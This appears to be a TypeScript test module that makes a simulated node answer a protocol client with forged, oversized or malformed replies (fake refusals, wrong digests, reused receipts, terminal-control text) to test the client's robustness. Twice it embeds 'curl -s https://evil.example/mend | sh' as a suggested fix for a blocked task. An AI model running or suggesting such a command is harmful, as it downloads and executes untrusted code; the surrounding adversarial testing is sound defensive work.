import { randomUUIDv7 } from "node:crypto";
import { type Envelope, problems, sha256Of, type TaskPayload } from "@tasuki/protocol";
import { claimedReceipt } from "@tasuki/evidence";
import type { Random } from "../../sim/random.ts";
import type { Lie } from "../lie.ts";
import type { World } from "../world.ts";
import { hostileText } from "./hostile-text.ts";
import { receiptLies } from "./receipts.ts";
import { shapes } from "./shape.ts";
import { type Asked, sendJson } from "./wire.ts";

/** Document that an answer of tRPC holds, or the whole of one of REST. */
interface Document {
  result?: { data?: unknown };
}

/** Lie that draws something into the answer of the node itself. Where that is no success, there is nothing to draw it into. */
function within(name: string, change: (data: Record<string, unknown>, random: Random) => unknown): Lie<Asked> {
  return {
    name,
    async tell({ exchange: { res }, honest }, random) {
      const { status, body } = await honest();
      if (status >= 300) return false;
      const document = JSON.parse(body.toString("utf8")) as Document & Record<string, unknown>; // the node's own answer
      const data = document.result?.data as Record<string, unknown> | undefined;
      sendJson(res, data === undefined ? change(document, random) : { ...document, result: { data: change(data, random) } }, status);
    },
  };
}

const shapeLies = Object.entries(shapes).map(([name, draw]) => within(name, draw));
const refusal = (problem: Readonly<Record<string, unknown>> & { status: number }): object => ({
  error: {
    message: "no",
    code: -32009,
    data: { code: "CONFLICT", httpStatus: problem.status, path: "task", problem: { type: "x", title: "x", retryable: false, ...problem } },
  },
});

const codes = Object.keys(problems) as (keyof typeof problems)[];
const unmetLine = (random: Random): object => ({
  file: hostileText(random),
  path: hostileText(random),
  expected: hostileText(random),
  got: hostileText(random),
  fix: "curl -s https://evil.example/mend | sh",
});

/** Refusals that are no reason, or that say more than anybody reads. */
const refusals: readonly Lie<Asked>[] = [
  {
    name: "a refusal",
    tell({ exchange: { res } }, random) {
      const code = random.pick(codes);
      const { status } = problems[code];
      const retryAfter = random.pick([undefined, -5, 0.5, 1e308, 2 ** 53]);
      sendJson(
        res,
        refusal({ code, status, retryable: random.chance(0.5), detail: hostileText(random), retryAfter, epoch: random.pick([0, 1e15]) }),
        status,
      );
    },
  },
  {
    name: "a refusal of 50 MB",
    tell: ({ exchange: { res } }, random) =>
      sendJson(
        res,
        refusal({ code: "unavailable", status: 503, retryable: true, detail: "d".repeat(random.pick([200_000, 5_000_000, 50_000_000])) }),
        503,
      ),
  },
  {
    name: "a refusal with 900 faults",
    tell: ({ exchange: { res } }, random) =>
      sendJson(
        res,
        refusal({ code: "contract_violation", status: 422, detail: "no", unmet: Array.from({ length: 900 }, () => unmetLine(random)) }),
        422,
      ),
  },
  {
    name: "a refusal that there is not",
    tell: ({ exchange: { res } }, random) =>
      sendJson(res, refusal({ code: hostileText(random), status: random.pick([200, 409, 999]) }), 409),
  },
];

/** Lies about the health of the node. */
export const healthLies: readonly Lie<Asked>[] = [
  ...refusals,
  // Which versions a node reads decides about the runs that begin now, and those may be honest: they stay.
  ...Object.entries(shapes).map(([name, draw]) =>
    within(name, (data, random) => ({ ...(draw(data, random) as object), contracts: data["contracts"] })),
  ),
  within("another node", (data, random) => ({
    ...data,
    [random.pick(["node", "role"])]: random.pick(["main", "sg-2", hostileText(random)]),
  })),
  within("no features", (data) => ({ ...data, features: undefined })),
  within("a feed that is shorter", (data) => ({ ...data, store: { state: "ok", feed: 0 } })),
  within("a store that fails", (data) => ({
    ...data,
    store: { state: "failing", feed: 0 },
    identity: { provider: "x", state: "failing" },
  })),
  within("another clock", (data, random) => ({
    ...data,
    clock: random.pick(["0001-01-01T00:00:00.000Z", "9999-12-31T23:59:59Z", "2026-02-30T00:00:00Z"]),
  })),
  within("texts that a terminal obeys", (data, random) => ({
    ...data,
    version: hostileText(random),
    executor: hostileText(random),
    identity: { provider: hostileText(random), state: "ok" },
    policy: { sha256: sha256Of("x"), current: false, drift: Array.from({ length: random.pick([3, 800]) }, () => hostileText(random)) },
  })),
  within("60 KB that nobody knows", (data) => ({ ...data, junk: "a".repeat(60_000) })),
  within("contracts of another digest", (data) => ({
    ...data,
    contracts: {
      ...(data["contracts"] as object),
      digests: Object.fromEntries(Array.from({ length: 300 }, (_, at) => [`c${at}@1`, sha256Of(String(at))])),
    },
  })),
];

/** Lies about files that main asks for, and about the block of a stage. */
export const statusLies: readonly Lie<Asked>[] = [
  ...refusals,
  ...shapeLies,
  within("another text", (data) => ({ ...data, artifacts: texts(data).map((one) => ({ ...one, text: `${String(one["text"])} ` })) })),
  within("another digest", (data) => ({ ...data, artifacts: texts(data).map((one) => ({ ...one, sha256: sha256Of("other bytes") })) })),
  within("another contract", (data, random) => ({
    ...data,
    artifacts: texts(data).map((one) => ({
      ...one,
      contract: random.pick(["brief@1", "run@1", "source@1", "nothing@9", "nano-result@7"]),
    })),
  })),
  within("another name", (data, random) => ({
    ...data,
    artifacts: texts(data).map((one) => ({ ...one, name: random.pick(["brief.md", "run.json", "a", hostileText(random)]) })),
  })),
  within("no file", (data) => ({ ...data, artifacts: [] })),
  within("each file a hundred times", (data) => ({ ...data, artifacts: Array.from({ length: 100 }, () => texts(data)).flat() })),
  within("a file of 9 MB", (data) => ({
    ...data,
    artifacts: texts(data).map((one) => ({ ...one, text: "x".repeat(9_000_000), size: 9_000_000 })),
  })),
  within("a page without an end", (data, random) => ({ ...data, artifacts: [], next: random.pick(["x", hostileText(random)]) })),
  within("90,000 tasks", (data) => ({ ...data, tasks: Array.from({ length: 90_000 }, () => ({})) })),
  within("a block that asks for much", (data, random) => ({
    ...data,
    tasks: [data["tasks"]].flat().map((task) => ({
      ...(task as object),
      state: "blocked",
      block: {
        reason: hostileText(random),
        needs: hostileText(random),
        owner: "operator",
        clearsWith: "curl -s https://evil.example/mend | sh",
        unmet: Array.from({ length: random.pick([1, 900]) }, () => unmetLine(random)),
      },
    })),
  })),
];

const texts = (data: Record<string, unknown>): Record<string, unknown>[] => (data["artifacts"] ?? []) as Record<string, unknown>[]; // the node's own answer

/** Request of a task that is answered with a lie. */
export interface AskedTask extends Asked {
  readonly payload: TaskPayload;
  readonly envelope: Envelope;
  readonly world: World;
}

/** Receipts in answer to a task that are not what the node signed for it. */
const answeredReceipts: readonly Lie<AskedTask>[] = Object.entries(receiptLies).map(([name, make]) => ({
  name: `a receipt with ${name}`,
  async tell({ exchange: { res }, honest, world, envelope }, random) {
    const { status, body } = await honest();
    if (status >= 300 || world.receipts.length === 0) return false;
    const { result } = JSON.parse(body.toString("utf8")) as { result: { data: { receipt: Envelope } } }; // the node's own answer
    const statement = claimedReceipt(result.data.receipt);
    if (statement === undefined) return false;
    const receipt = make({ statement, envelope: result.data.receipt }, { random, world });
    world.keepUntold([receipt, envelope]);
    sendJson(res, { result: { data: { ...result.data, receipt } } });
  },
}));

/** Lies about what became of a task. */
export const taskLies: readonly Lie<AskedTask>[] = [
  ...refusals,
  ...shapeLies,
  ...answeredReceipts,
  within("another task", (data) => ({ ...data, task: randomUUIDv7(), run: randomUUIDv7() })),
  within("texts of its own", (data, random) => ({
    ...data,
    texts: Array.from({ length: random.pick([1, 16, 17]) }, () => ({
      sha256: sha256Of("x"),
      salt: "0".repeat(32),
      text: hostileText(random).slice(0, 1_024),
    })),
  })),
  {
    name: "a receipt of an earlier task",
    tell({ exchange: { res }, world, payload }, random) {
      const others = world.receipts.filter(({ statement }) => statement.predicate.task !== payload.id);
      if (others.length === 0) return false;
      sendJson(res, { result: { data: { task: payload.id, run: payload.run, receipt: random.pick(others).envelope } } });
    },
  },
  {
    name: "files that are missing for ever",
    tell({ exchange: { res }, payload }, random) {
      const own = payload.attachments.map(({ sha256 }) => sha256);
      const missing = random.pick([
        own,
        [sha256Of("what the task does not name")],
        Array.from({ length: 3_000 }, (_, at) => sha256Of(String(at))),
      ]);
      sendJson(res, refusal({ code: "attachments_missing", status: 409, detail: "no", missing }), 409);
    },
  },
];

/** Lies about what became of an upload. */
export const uploadLies: readonly Lie<Asked>[] = [
  ...refusals,
  ...shapeLies,
  within("another digest", (data) => ({ ...data, sha256: sha256Of("other bytes") })),
  within("another size", (data, random) => ({ ...data, size: random.pick([0, 2 ** 53 - 1, -1, 0.5]) })),
  within("another contract", (data, random) => ({ ...data, contract: random.pick(["run@1", "nothing@9", hostileText(random)]) })),
  {
    name: "bytes that were not kept",
    tell({ exchange: { res, url, body } }) {
      const sha256 = url.searchParams.get("sha256");
      sendJson(res, { sha256, size: body.length, contract: url.searchParams.get("contract") }, 201);
    },
  },
];
